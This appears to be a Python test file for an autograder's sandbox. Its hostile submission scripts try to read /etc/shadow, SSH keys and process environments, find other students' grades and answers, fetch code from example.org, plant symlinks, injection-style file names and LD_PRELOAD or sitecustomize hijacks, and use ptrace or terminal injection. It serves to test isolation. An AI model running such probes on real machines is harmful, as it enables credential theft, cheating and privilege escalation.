"""Scripts that reach for what is none of their business: files, the network, the machine, other processes."""

from pathlib import Path

from tests.submissions import ROOT
from tests.submissions.attacks import (
    AT_IMPORT,
    HARMLESS,
    OPEN,
    PORT,
    SECRET,
    SECRET_VARIABLE,
    hostile,
)

HOME = Path.home()

SEARCH = f"""
import re

def search(pattern, folders, what):
    beside = (os.path.realpath("/submission"), os.path.realpath(sys.prefix), os.path.realpath(sys.base_prefix))
    for top in folders:
        for folder, folders_in_it, names in os.walk(top):
            if os.path.realpath(folder).startswith(beside):
                folders_in_it.clear()
                continue
            for name in filter(re.compile(pattern).fullmatch, names):
                breach(f"found {{what}}: {{os.path.join(folder, name)}}")

ELSEWHERE = ["/home", "/root", "/srv", "/mnt", "/media", "/opt", "/var", "/tmp", "/run", "/data", "/kit"]
ELSEWHERE += [{str(ROOT)!r}, {str(ROOT.parent)!r}, {str(HOME)!r}]
"""

READING = [
    hostile("reads_passwd", "learn who else is there", 'steal("/etc/passwd")\nsteal("/etc/group")\n', HARMLESS),
    hostile("reads_shadow", "take passwords home", 'steal("/etc/shadow")\nsteal("/etc/gshadow")\n', HARMLESS),
    hostile("needs_shadow", "be given /etc/shadow", 'read("/etc/shadow")\n', AT_IMPORT),
    hostile(
        "reads_a_home",
        "take keys and histories home",
        f"""
        for folder in {{{str(HOME)!r}, "/root", os.path.expanduser("~")}}:
            for name in (".ssh/id_rsa", ".ssh/id_ed25519", ".bash_history", ".bashrc", ".netrc", ".gitconfig"):
                steal(f"{{folder}}/{{name}}")
        """,
        HARMLESS,
    ),
    hostile(
        "reads_other_submissions",
        "copy from the others",
        SEARCH + r'search(r"\d+_.+_.+\.zip", ELSEWHERE, "a submission")' + "\n",
        HARMLESS,
    ),
    hostile(
        "reads_the_marks",
        "see what the others got",
        SEARCH + r'search(r"grades\.csv|manual\.csv|result\.json|feedback\.(md|html)", ELSEWHERE, "marks")' + "\n",
        HARMLESS,
    ),
    hostile(
        "reads_the_test_labels",
        "know the right answers",
        SEARCH + r'search(r"t10k-labels.*", ELSEWHERE, "test labels")' + "\n",
        HARMLESS,
    ),
    hostile(
        "reads_the_solutions",
        "hand back what the grader knows",
        f"""
        for script in ("model_no1", "model_no2", "model_no3"):
            for folder in ("/kit", "/kit/grading", {str(ROOT)!r}):
                steal(f"{{folder}}/{{script}}.py")
        """,
        HARMLESS,
    ),
    hostile(
        "reads_the_grader",
        "learn what the assignment is worth, from the grader's own folder",
        f"""
        for name in ("assignment.toml", "README.md", "tests/submissions/correct.py", ".git/config"):
            steal(os.path.join({str(ROOT)!r}, name))
        """,
        HARMLESS,
    ),
    hostile(
        "reads_a_secret",
        "read what lies in /tmp, by all its names",
        f"""
        for root in ("", "/proc/1/root", f"/proc/{{os.getppid()}}/root", "/proc/self/root/..", "/output/..", "/kit/.."):
            steal(root + {str(SECRET)!r})
        """,
        HARMLESS,
    ),
    hostile(
        "reads_environments",
        "find keys in variables, its own and those of others",
        f"""
        def variables(pid):
            return read(f"/proc/{{pid}}/environ").split(b"\\0")

        for pid in filter(str.isdigit, os.listdir("/proc")):
            for variable in attempt(variables, pid) or ():
                if variable.startswith(b"{SECRET_VARIABLE}"):
                    breach(variable)
        """,
        HARMLESS,
    ),
    hostile(
        "lists_processes",
        "see what else runs on the machine",
        """
        pids = [pid for pid in os.listdir("/proc") if pid.isdigit()]
        if len(pids) > 20:
            breach(f"sees {len(pids)} processes")
        """,
        HARMLESS,
    ),
]

WRITING = [
    hostile(
        "writes_everywhere",
        "leave a file in every folder that it can think of",
        f"""
        for folder in ("/", "/tmp", "/var/tmp", "/dev/shm", "/root", "/home", "/etc", "/usr/lib", "/kit",
                       "/kit/grading",
                       "/data", "/submission", "/output/..", "/proc/1/root/tmp", "/proc/1/cwd", os.getcwd(),
                       os.path.expanduser("~"), sys.prefix, {str(HOME)!r}, {str(ROOT)!r}, {str(ROOT.parent)!r}):
            leave_canary(folder)
        """,
        HARMLESS,
    ),
    hostile(
        "writes_over_the_kit",
        "have the kit say something else from now on",
        f"""
        def spoil(path):
            with open(path, "r+b") as file:
                breach(f"may write to {{path}}")

        own = os.path.dirname(os.path.abspath(__file__))  # a copy, for this script alone
        for module in list(sys.modules.values()):
            path = getattr(module, "__file__", None) or ""
            if os.path.dirname(path) != own:
                attempt(spoil, path)
        for folder in ("/kit", "/kit/grading", "/submission", {str(ROOT)!r}):
            for name in ("lab.py", "deep_mnist.py", "layers.py", "model_no2.py"):
                attempt(spoil, f"{{folder}}/{{name}}")
        """,
        HARMLESS,
    ),
    hostile(
        "writes_bytecode",
        "leave compiled modules that others will run",
        """
        import importlib.util

        import lab

        cache = importlib.util.cache_from_source(lab.__file__)
        attempt(os.makedirs, os.path.dirname(cache))
        leave_canary(os.path.dirname(cache))
        if os.path.exists(os.path.dirname(cache)) and os.access(os.path.dirname(cache), os.W_OK):
            breach(f"may write to {cache}")
        """,
        HARMLESS,
    ),
    hostile(
        "links_in_the_output_folder",
        "have the grader read other files, or write through a link",
        f"""
        for number, target in enumerate(("/etc/passwd", "/etc/shadow", {str(SECRET)!r}, "/", "/proc/self/mem")):
            attempt(os.symlink, target, f"/output/link_{{number}}")
        for name in ("report.json", "model_no1.pb", "model_no2.pb", "model_no3.pb"):
            attempt(os.symlink, {str(SECRET)!r}, f"/output/{{name}}")
        """,
        OPEN,
    ),
    hostile(
        "hard_links_in_the_output_folder",
        "have the grader change modes or contents of other files",
        """
        for number, target in enumerate((__file__, sys.executable, "/etc/ld.so.cache", "/kit/lab.py")):
            attempt(os.link, target, f"/output/hard_{number}")
        attempt(lambda: open("/output/first", "w").close())
        attempt(os.link, "/output/first", "/output/second")
        """,
        HARMLESS,
    ),
    hostile(
        "pipes_in_the_output_folder",
        "have the grader wait for a writer that never comes",
        """
        import socket

        attempt(os.mkfifo, "/output/pipe")
        attempt(os.mkfifo, "/output/predictions.npy")
        attempt(os.mknod, "/output/device", 0o20666, os.makedev(1, 5))
        attempt(socket.socket(socket.AF_UNIX).bind, "/output/socket")
        """,
        HARMLESS,
    ),
    hostile(
        "strange_names_in_the_output_folder",
        "have a name do what a file can't",
        r"""
        for name in ("-rf", "a\nb", "\x1b[31mred", "$(touch x)", "x" * 255, "\u202egnp.exe", "=1+1", "a;b"):
            attempt(lambda name=name: open(f"/output/{name}", "w").close())
        attempt(os.makedirs, "/output/" + "deep/" * 50)
        """,
        HARMLESS,
    ),
    hostile(
        "closed_output_folder",
        "leave files that nobody can read or remove",
        """
        attempt(os.makedirs, "/output/closed/inside")
        for path in ("/output/closed/inside", "/output/closed"):
            attempt(os.chmod, path, 0)
        """,
        HARMLESS,
    ),
]

NETWORK = [
    hostile(
        "calls_the_internet",
        "send the solutions to a friend",
        """
        import socket

        def call(family, address):
            with socket.socket(family, socket.SOCK_STREAM) as connection:
                connection.settimeout(2)
                connection.connect(address)
                breach(f"called {address}")

        attempt(call, socket.AF_INET, ("1.1.1.1", 53))
        attempt(call, socket.AF_INET, ("8.8.8.8", 443))
        attempt(call, socket.AF_INET6, ("2606:4700:4700::1111", 53))
        if attempt(socket.getaddrinfo, "example.org", 80):
            breach("knows the address of example.org")
        """,
        HARMLESS,
    ),
    hostile(
        "needs_the_internet",
        "load what was not handed in",
        """
        import urllib.request

        urllib.request.urlopen("http://example.org/solution.py", timeout=5)
        """,
        AT_IMPORT,
    ),
    hostile(
        "calls_this_machine",
        "talk to what listens on the grader's machine",
        f"""
        import socket

        def call(family, address):
            with socket.socket(family, socket.SOCK_STREAM) as connection:
                connection.settimeout(2)
                connection.connect(address)
                breach(f"called {{address}}")

        for port in ({PORT}, 22, 80, 631, 8888):
            attempt(call, socket.AF_INET, ("127.0.0.1", port))
            attempt(call, socket.AF_INET6, ("::1", port))
        for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "\\0{PORT}"):
            attempt(call, socket.AF_UNIX, path)
        """,
        HARMLESS,
    ),
    hostile(
        "listens",
        "be called by a friend",
        f"""
        import socket

        listener = socket.socket()
        attempt(listener.bind, ("0.0.0.0", {PORT}))
        attempt(listener.listen)
        """,
        HARMLESS,
    ),
    hostile(
        "sends_to_everybody",
        "be heard on the local network",
        """
        import socket

        radio = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        radio.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        for address in ("255.255.255.255", "224.0.0.1", "1.1.1.1"):
            if attempt(radio.sendto, b"solution", (address, 9999)):
                breach(f"sent to {address}")
        """,
        HARMLESS,
    ),
]

PRIVILEGES = [
    hostile(
        "becomes_root",
        "be who it was started by",
        """
        for function in (os.setuid, os.setgid, os.seteuid, os.setegid):
            attempt(function, 0)
        attempt(os.setgroups, [0])
        if 0 in os.getresuid() + os.getresgid():
            breach("is root")
        attempt(os.chroot, "/tmp")
        """,
        HARMLESS,
    ),
    hostile(
        "makes_namespaces",
        "be root in a world of its own, and mount things",
        """
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        for flag in (0x10000000, 0x00020000, 0x40000000):
            if libc.unshare(flag) == 0:
                breach(f"unshared {flag:x}")
        if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
            breach("mounted a file system")
        """,
        HARMLESS,
    ),
    hostile(
        "makes_itself_important",
        "take the processor from everybody else, and lift its limits",
        """
        import resource

        for number in range(8):
            attempt(os.setpriority, os.PRIO_PROCESS, 0, -20)
        if os.getpriority(os.PRIO_PROCESS, 0) < 0:
            breach("comes before others")
        attempt(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(99))
        if os.sched_getscheduler(0) == os.SCHED_FIFO:
            breach("is never interrupted")
        for name in ("DATA", "NPROC", "FSIZE", "CPU", "NOFILE"):
            number = getattr(resource, f"RLIMIT_{name}")
            hard = resource.getrlimit(number)[1]
            attempt(resource.setrlimit, number, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            if hard != resource.RLIM_INFINITY and resource.getrlimit(number)[1] != hard:
                breach(f"lifted the limit {name}")
        """,
        HARMLESS,
    ),
    hostile(
        "writes_to_its_parents_memory",
        "have the grader's worker do something else",
        """
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        for pid in (1, os.getppid()):
            if libc.ptrace(16, pid, None, None) == 0:
                breach(f"traces process {pid}")
            if attempt(open, f"/proc/{pid}/mem", "r+b"):
                breach(f"may write to the memory of process {pid}")
            for number in attempt(os.listdir, f"/proc/{pid}/fd") or ():
                if attempt(open, f"/proc/{pid}/fd/{number}", "wb"):
                    breach(f"may write to what process {pid} has open")
        """,
        HARMLESS,
    ),
    hostile(
        "sets_up_the_kernel",
        "change how the whole machine works",
        """
        def write(path):
            with open(path, "w") as file:
                breach(f"may write to {path}")

        for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/power/state", "/dev/mem",
                     "/proc/sys/vm/overcommit_memory", "/proc/1/oom_score_adj", "/sys/fs/cgroup/cgroup.procs"):
            attempt(write, path)
        """,
        HARMLESS,
    ),
    hostile(
        "types_into_the_terminal",
        "have the instructor's shell run a command",
        """
        import fcntl
        import termios

        def type_in(path):
            with open(path, "rb") as terminal:
                fcntl.ioctl(terminal, getattr(termios, "TIOCSTI", 0x5412), b"x")
                breach(f"typed into {path}")

        for path in ("/dev/tty", "/dev/console", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2"):
            attempt(type_in, path)
        """,
        HARMLESS,
    ),
    hostile(
        "leaves_things_for_those_after_it",
        "have later scripts and checks run its code",
        """
        evil = "raise SystemExit('this is not yours')\\n"
        for folder in ("/tmp", os.getcwd(), os.path.expanduser("~"), "/output", "/dev/shm"):
            for name in ("sitecustomize.py", "usercustomize.py", "lab.py", "numpy.py", "model_no2.py", "json.py"):
                attempt(lambda path=os.path.join(folder, name): open(path, "w").write(evil))
        os.environ.update(LD_PRELOAD="/tmp/evil.so", PYTHONPATH="/tmp", PYTHONSTARTUP="/tmp/json.py", PYTHONHOME="/tmp")
        attempt(lambda: open("/tmp/evil.so", "wb").write(b"\\x7fELF"))
        """,
        HARMLESS | {"run": "passed|failed"},
    ),
    hostile(
        "spoils_its_sisters",
        "change the other scripts of its own submission, as they lie there",
        """
        for script in ("model_no2", "model_no3"):
            attempt(os.unlink, f"/submission/{script}.py")
            attempt(lambda script=script: open(f"/submission/{script}.py", "w").close())
        """,
        HARMLESS,
    ),
]

ATTACKS = [*READING, *WRITING, *NETWORK, *PRIVILEGES]
